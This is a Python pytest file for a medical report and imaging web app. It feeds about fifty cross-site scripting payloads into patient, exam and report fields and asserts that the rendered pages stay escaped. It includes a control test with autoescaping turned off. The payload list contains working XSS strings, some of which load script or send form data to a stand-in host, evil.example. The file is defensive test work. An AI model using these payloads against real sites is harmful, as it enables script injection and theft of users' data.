"""Script in a name, a report or a device's text is text: through every field that a page shows (SECURITY.md 1, threat 12)."""

import json
import re
from html.parser import HTMLParser

import pytest

from .cast import Site

_HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter")
PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<<script>script>alert(1)<</script>/script>",
    "<script src=//evil.example/x.js></script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<form action=//evil.example><input name=answer></form>",
    "<!--<img src=x onerror=alert(1)>-->",
    "--><img src=x onerror=alert(1)>",
    "]]><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "` onmouseover=alert(1) `",
    "{{ 7*7 }}{% raw %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "%(name)s %s %n %",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "＜script＞alert(1)＜/script＞",
    "\u2028<script>alert(1)</script>\u2029",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</svg><script>alert(1)</script>",
    "<img src='x' style='background:url(//evil.example)'>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    *(f"<img src=x {handler}=alert(1)>" for handler in _HANDLERS),
    *(f"<body {handler}=alert(1)>" for handler in _HANDLERS[:4]),
]


class _Seen(HTMLParser):
    """Every element and attribute that a browser would make of a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.made: list[tuple[str, tuple[str, ...]]] = []
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.made.append((tag, tuple(name for name, _ in attrs)))
        for name, value in attrs:
            if name in ("alt", "title", "aria-label", "value"):
                continue  # words for people
            hostile = "javascript:" in (value or "") or "evil.example" in (value or "")
            if hostile or name.startswith("on") or name in ("srcdoc", "style"):
                self.bad.append(f"{tag} {name}={value}")


def _elements(page: str) -> _Seen:
    seen = _Seen()
    seen.feed(page)
    return seen


def _pages(site: Site, payload: str, number: int) -> list[str]:
    visit, accession = f"V{number}", f"A{number}"
    name = (payload[:90] + "陈志远")[:100]
    site.order(visit, accession, name, phone="13900000107", ordered_exam={"name": payload[:190], "modality": "CT"}, visit_type=payload[:12])
    site.study(visit, accession, name, title=payload[:190])
    words = dict.fromkeys(("impression", "findings", "exam", "reporting_doctor", "reviewing_doctor"), payload)
    report = site.report(visit, accession, **{**words, "exam": payload[:190]})
    link = site.link(visit)
    link = type(link)(link.grant_id, link.text, "0107")
    browser = site.browser()
    pages = [browser.get(link.path).text]
    browser.opened(link)
    return pages + [browser.get(link.film + path).text for path in ("", "/access", f"/reports/{report}")]


def test_no_payload_in_any_shown_field_becomes_an_element_or_ends_a_script(site: Site) -> None:
    plain = [_elements(page).made for page in _pages(site, "平常的字", 1000)]
    assert len(PAYLOADS) >= 50
    for number, payload in enumerate(PAYLOADS):
        pages = _pages(site, payload, number)
        for shape, page in zip(plain, pages, strict=True):
            seen = _elements(page)
            assert seen.bad == [], payload
            assert {tag for tag, _ in seen.made} <= {tag for tag, _ in shape}, payload
            assert len([tag for tag, _ in seen.made if tag in ("script", "img", "svg", "form")]) == len(
                [tag for tag, _ in shape if tag in ("script", "img", "svg", "form")]
            ), payload
        data = re.search(r'<script[^>]*id="film-data"[^>]*>(.*?)</script>', pages[1], re.S)
        if data:
            assert json.loads(data[1])["stacks"][0]["title"] == payload[:190], payload


def test_the_payloads_would_show_if_escaping_were_off(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    """The test above can fail: with autoescape off it finds what it looks for."""
    monkeypatch.setattr(site.app.jinja_env, "autoescape", False)
    site.app.jinja_env.cache.clear()  # type: ignore[union-attr]
    seen = _elements(_pages(site, "<img src=x onerror=alert(1)>", 5)[1])
    assert seen.bad
